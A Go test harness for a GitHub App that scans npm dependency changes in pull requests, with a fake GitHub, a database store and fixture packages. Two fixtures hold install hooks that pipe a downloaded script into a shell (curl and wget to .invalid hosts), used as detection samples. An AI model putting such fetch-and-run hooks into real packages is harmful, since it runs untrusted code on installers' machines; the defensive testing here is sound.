package app_test

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/lockwarden/lockwarden/analyzer"
	"github.com/lockwarden/lockwarden/analyzer/archive"
	"github.com/lockwarden/lockwarden/analyzer/issue"
	"github.com/lockwarden/lockwarden/analyzer/vulnerability"
	"github.com/lockwarden/lockwarden/app"
	"github.com/lockwarden/lockwarden/app/github"
	"github.com/lockwarden/lockwarden/app/github/githubtest"
	"github.com/lockwarden/lockwarden/app/github/octokit"
	"github.com/lockwarden/lockwarden/app/store"
	"github.com/lockwarden/lockwarden/app/store/storetest"
	"github.com/lockwarden/lockwarden/known"
)

func TestMain(m *testing.M) { storetest.Main(m) }

// packages are what the stories install: small, written for the tests, inert by
// construction (hosts end in .invalid), and analyzed by the real engine.
var packages = map[string]map[string]string{
	"vulnerable":   {"index.js": "module.exports = 1\n"},
	"quiet":        {"index.js": "module.exports = s => s.trim()\n"},
	"undocumented": {"package.json": `{"name":"undocumented","version":"VERSION","license":"MIT","repository":"github:a/a"}`},
	"scripts":      {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
	"shell":        {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
	"other":        {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
}

// scanner analyzes the packages above in this process.
type scanner struct {
	engine *analyzer.Engine
	mu     sync.Mutex
	// gate, where it is set, holds scans until it is closed: those of packages
	// whose names begin with held.
	gate  chan struct{}
	held  string
	scans int
	// waiting are the scans that are held now.
	waiting int
}

func (s *scanner) Scan(ctx context.Context, subject analyzer.Subject) (analyzer.Scanned, error) {
	s.mu.Lock()
	s.scans++
	gate := s.gate
	if !strings.HasPrefix(subject.Name, s.held) {
		gate = nil
	}
	if gate != nil {
		s.waiting++
	}
	s.mu.Unlock()
	if gate != nil {
		defer func() {
			s.mu.Lock()
			defer s.mu.Unlock()
			s.waiting--
		}()
		select {
		case <-gate:
		case <-ctx.Done():
			return analyzer.Scanned{}, ctx.Err()
		}
	}
	if subject.Unsupported != "" {
		return analyzer.Scanned{Fetch: &issue.FetchProblem{Kind: "unsupported", Reason: subject.Unsupported}}, nil
	}
	name := strings.TrimRight(subject.Name, "0123456789")
	files, ok := packages[name]
	if !ok {
		return analyzer.Scanned{Fetch: &issue.FetchProblem{Kind: "not-found", Reason: "the registry does not have it"}}, nil
	}
	content := map[string][]byte{"package.json": []byte(fmt.Sprintf(`{"name":%q,"version":%q}`, subject.Name, subject.Version))}
	for file, text := range files {
		content[file] = []byte(strings.ReplaceAll(text, "VERSION", subject.Version))
	}
	c, err := s.engine.Contents(archive.New(content), false, nil, func(string) {})
	return analyzer.Scanned{Contents: c, Integrity: subject.Integrity}, err
}

func (s *scanner) Metadata(_ context.Context, name, _, before string, _ bool) (known.Of[issue.Metadata], error) {
	if strings.HasPrefix(name, "undocumented") {
		return known.Not[issue.Metadata]("the registry answers 503"), nil
	}
	m := issue.Metadata{Exists: true}
	if before != "" {
		m.Before = &issue.Release{Version: before}
	}
	return known.Is(m), nil
}

// advisories cover the versions 1 of "vulnerable".
func (s *scanner) Advisories(_ context.Context, packages []vulnerability.Package) (known.Of[[][]vulnerability.Advisory], error) {
	out := make([][]vulnerability.Advisory, len(packages))
	for i, p := range packages {
		if p.Name == "vulnerable" && strings.HasPrefix(p.Version, "1.") {
			out[i] = []vulnerability.Advisory{{ID: "GHSA-xxxx", Summary: "Command injection", Severity: "high", Fixed: []string{"2.0.0"}}}
		}
	}
	return known.Is(out), nil
}

func (s *scanner) ConfiguredHost(host string) bool { return host == "registry.example" }

func (s *scanner) hold() (release func()) {
	s.mu.Lock()
	defer s.mu.Unlock()
	gate := make(chan struct{})
	s.gate = gate
	return func() {
		s.mu.Lock()
		s.gate = nil
		s.mu.Unlock()
		close(gate)
	}
}

// logBuffer keeps what a server logs.
type logBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *logBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *logBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// world is a GitHub, a database and the App between them.
type world struct {
	t       *testing.T
	github  *githubtest.GitHub
	scanner *scanner
	store   *store.Store
	repo    *githubtest.Repository
	server  *app.Server
	logged  *logBuffer
	config  app.Config
	url     string
	db      string
	// clock is how far everybody's clock is ahead, in nanoseconds.
	clock *atomic.Int64
}

// get reads one of the App's pages.
func (w *world) get(path string) (int, string) {
	w.t.Helper()
	answer, err := http.Get(w.url + path)
	if err != nil {
		w.t.Fatal(err)
	}
	defer answer.Body.Close()
	body, err := io.ReadAll(answer.Body)
	if err != nil {
		w.t.Fatal(err)
	}
	return answer.StatusCode, string(body)
}

// story runs a scenario on both databases.
func story(t *testing.T, tell func(w *world)) {
	t.Parallel()
	if testing.Short() {
		// The race detector makes modernc's SQLite a hundred times as slow; the
		// store's own tests go through it.
		tell(newWorld(t, storetest.PostgreSQL(t)))
		return
	}
	storetest.Each(t, func(t *testing.T, db storetest.Database) {
		t.Parallel()
		tell(newWorld(t, db))
	})
}

func newWorld(t *testing.T, db storetest.Database, change ...func(*app.Config)) *world {
	t.Helper()
	g := githubtest.New()
	clock := new(atomic.Int64)
	now := func() time.Time { return time.Now().Add(time.Duration(clock.Load())) }
	g.Now = now
	if !testing.Short() { // the race detector makes it ten times as slow
		checker, err := octokit.NewChecker()
		if err != nil {
			t.Fatal(err)
		}
		g.Check(checker)
	}
	logged := &logBuffer{}
	log := slog.New(slog.NewTextHandler(logged, &slog.HandlerOptions{Level: slog.LevelDebug}))
	s, err := store.Open(context.Background(), store.Options{URL: db.URL, Log: log, Backoff: 20 * time.Millisecond, MaxAttempts: 4, Poll: 300 * time.Millisecond, Now: now})
	if err != nil {
		t.Fatal(err)
	}
	engine, err := analyzer.NewEngine()
	if err != nil {
		t.Fatal(err)
	}
	a, err := github.New(github.Options{AppID: g.AppID, PrivateKey: []byte(g.PrivateKey), APIURL: g.URL()})
	if err != nil {
		t.Fatal(err)
	}
	w := &world{t: t, github: g, scanner: &scanner{engine: engine}, store: s, logged: logged, clock: clock, db: db.URL}
	w.config = app.Config{GitHub: a, AppID: g.AppID, Slug: g.Slug, Secret: g.Secret, Store: s, Scanner: w.scanner, Log: log, Progress: 50 * time.Millisecond, PublicURL: "https://lockwarden.example",
		Now: now}
	for _, c := range change {
		c(&w.config)
	}
	server := app.New(w.config)
	w.server = server
	hook := httptest.NewServer(server.Handler())
	w.url = hook.URL
	g.SendTo(hook.URL + "/webhook")
	ctx, cancel := context.WithCancel(context.Background())
	if err := server.Start(ctx); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if os.Getenv("LOCKWARDEN_TEST_LOG") != "" {
			t.Log(logged.String())
		}
		// No scenario may tell a secret.
		for name, secret := range map[string]string{"the webhook's secret": g.Secret, "a token": "ghs_", "the private key": strings.Split(g.PrivateKey, "\n")[3], "a JSON web token": "eyJ"} {
			if strings.Contains(logged.String(), secret) {
				t.Errorf("%s stands in the log", name)
			}
		}
		if t.Failed() {
			dead, _ := s.DeadJobs(context.Background(), 10)
			for _, d := range dead {
				t.Logf("dead job: %+v: %s", d.Job, d.Error)
			}
			text := logged.String()
			t.Logf("the log ends with:\n%s", text[max(0, len(text)-6000):])
		}
		cancel()
		g.Close()
		_ = s.Close()
		hook.Close()
		for _, p := range g.Problems() {
			t.Errorf("GitHub would not have this: %s", p)
		}
	})
	w.repo = g.Repository("acme/web")
	w.repo.Allow("mia", "maintain")
	w.repo.Allow("ada", "admin")
	w.repo.Allow("wes", "write")
	w.repo.Allow("ann", "write")
	w.repo.Commit("main", map[string]string{"package.json": `{"name":"web","dependencies":{}}`, "package-lock.json": lock()})
	return w
}

// replica starts another server on the same database, with nothing else of the
// first one's, and returns its address.
func (w *world) replica() string {
	w.t.Helper()
	second, err := store.Open(context.Background(), store.Options{URL: w.db, Log: w.config.Log, Backoff: 20 * time.Millisecond, MaxAttempts: 4,
		Poll: 300 * time.Millisecond, Now: w.config.Now})
	if err != nil {
		w.t.Fatal(err)
	}
	config := w.config
	config.Store = second
	config.GitHub, err = github.New(github.Options{AppID: w.github.AppID, PrivateKey: []byte(w.github.PrivateKey), APIURL: w.github.URL()})
	if err != nil {
		w.t.Fatal(err)
	}
	server := app.New(config)
	ctx, cancel := context.WithCancel(context.Background())
	if err := server.Start(ctx); err != nil {
		w.t.Fatal(err)
	}
	hook := httptest.NewServer(server.Handler())
	w.t.Cleanup(func() {
		cancel()
		_ = second.Close()
		hook.Close()
	})
	return hook.URL
}

// lock is a lockfile with those packages, each NAME@VERSION, with "!" before it
// for another integrity.
func lock(list ...string) string {
	deps, entries := []string{}, []string{}
	for _, p := range list {
		hash := "A"
		if strings.HasPrefix(p, "!") {
			p, hash = p[1:], "B"
		}
		i := strings.LastIndexByte(p, '@')
		name, version := p[:i], p[i+1:]
		deps = append(deps, fmt.Sprintf("%q: %q", name, version))
		entries = append(entries, fmt.Sprintf("    \"node_modules/%s\": {\n      \"version\": %q,\n      \"resolved\": \"https://registry.example/%s/-/%s-%s.tgz\",\n      \"integrity\": \"sha512-%s==\"\n    }",
			name, version, name, name, version, strings.Repeat(hash, 86)))
	}
	root := fmt.Sprintf("    \"\": {\n      \"name\": \"web\",\n      \"dependencies\": {%s}\n    }", strings.Join(deps, ", "))
	return "{\n  \"name\": \"web\",\n  \"lockfileVersion\": 3,\n  \"requires\": true,\n  \"packages\": {\n" + strings.Join(append([]string{root}, entries...), ",\n") + "\n  }\n}\n"
}

// manifest is the package.json that goes with lock.
func manifest(list ...string) string {
	var deps []string
	for _, p := range list {
		p = strings.TrimPrefix(p, "!")
		i := strings.LastIndexByte(p, '@')
		deps = append(deps, fmt.Sprintf("%q: %q", p[:i], p[i+1:]))
	}
	return fmt.Sprintf(`{"name":"web","dependencies":{%s}}`, strings.Join(deps, ","))
}

// with are the files of a change that installs those packages.
func with(list ...string) map[string]string {
	return map[string]string{"package.json": manifest(list...), "package-lock.json": lock(list...)}
}

// base puts packages on the main branch.
func (w *world) base(list ...string) { w.repo.Commit("main", with(list...)) }

// open opens a pull request of ann's with those files.
func (w *world) open(files map[string]string) *githubtest.Pull {
	w.repo.Commit("change", files)
	return w.repo.Open("ann", w.repo, "change", "main")
}

// branch makes a branch with files.
func (w *world) branch(name string, files map[string]string) string {
	w.repo.Commit(name, files)
	return name
}

// large is a story whose size is the point, which the race detector leaves out.
func large(t *testing.T, tell func(w *world)) {
	if testing.Short() {
		t.Skip("it is large")
	}
	story(t, tell)
}

// comment writes a comment a minute after what was before, and a minute before
// what comes.
func (w *world) comment(p *githubtest.Pull, login, body string) int64 {
	w.clock.Add(int64(time.Minute))
	defer w.clock.Add(int64(time.Minute))
	return p.Comment(login, body)
}

// press presses a button.
func (w *world) press(login string, run int64, identifier string) {
	w.clock.Add(int64(time.Minute))
	defer w.clock.Add(int64(time.Minute))
	w.repo.Press(login, run, identifier)
}

// longest is how many looks, each after 20 ms, something is waited for: what a
// machine with ten times as much to do as it can takes, and not what is wanted.
const longest = 6000

// eventually waits until a condition holds.
func (w *world) eventually(what string, condition func() bool) {
	w.t.Helper()
	for range longest {
		if condition() {
			return
		}
		time.Sleep(20 * time.Millisecond)
	}
	w.t.Fatalf("it never came to this: %s", what)
}

// concludes waits until the newest check run of a commit has that conclusion.
func (w *world) concludes(sha, conclusion string) githubtest.CheckRun {
	w.t.Helper()
	var run githubtest.CheckRun
	for range longest {
		var ok bool
		if run, ok = w.repo.Latest(sha); ok && run.Status == "completed" && run.Conclusion == conclusion {
			return run
		}
		time.Sleep(20 * time.Millisecond)
	}
	w.t.Fatalf("the check run never became %s; it is %s %s: %s\n%s", conclusion, run.Status, run.Conclusion, run.Title, run.Summary)
	return run
}

// settled waits until no job is left.
func (w *world) settled() {
	w.t.Helper()
	quiet := 0
	w.eventually("no job is left", func() bool {
		counts, err := w.store.Counts(context.Background())
		if err != nil {
			w.t.Fatal(err)
		}
		if counts["available"]+counts["running"]+counts["retryable"]+counts["pending"] > 0 {
			quiet = 0
			return false
		}
		quiet++
		return quiet > 5
	})
}

// wants checks that texts stand in another one.
func (w *world) wants(what, text string, parts ...string) {
	w.t.Helper()
	text = strings.NewReplacer("&#64;", "@", "\\_", "_", "\\~", "~").Replace(text)
	for _, p := range parts {
		if !strings.Contains(text, p) {
			w.t.Errorf("%s lacks %q:\n%s", what, p, text)
		}
	}
}

// reply is the App's one comment.
func (w *world) reply(p *githubtest.Pull) string {
	w.t.Helper()
	var out []string
	for _, c := range p.Comments() {
		if c.User.Type == "Bot" {
			out = append(out, c.Body)
		}
	}
	if len(out) > 1 {
		w.t.Errorf("the App wrote %d comments: %q", len(out), out)
	}
	return strings.Join(out, "\n")
}

// reaction waits until a comment has one.
func (w *world) reaction(p *githubtest.Pull, id int64, content string) {
	w.t.Helper()
	w.eventually("comment "+fmt.Sprint(id)+" has the reaction "+content, func() bool {
		for _, c := range p.Comments() {
			if c.ID == id && c.Reactions[content] != 0 {
				return true
			}
		}
		return false
	})
}
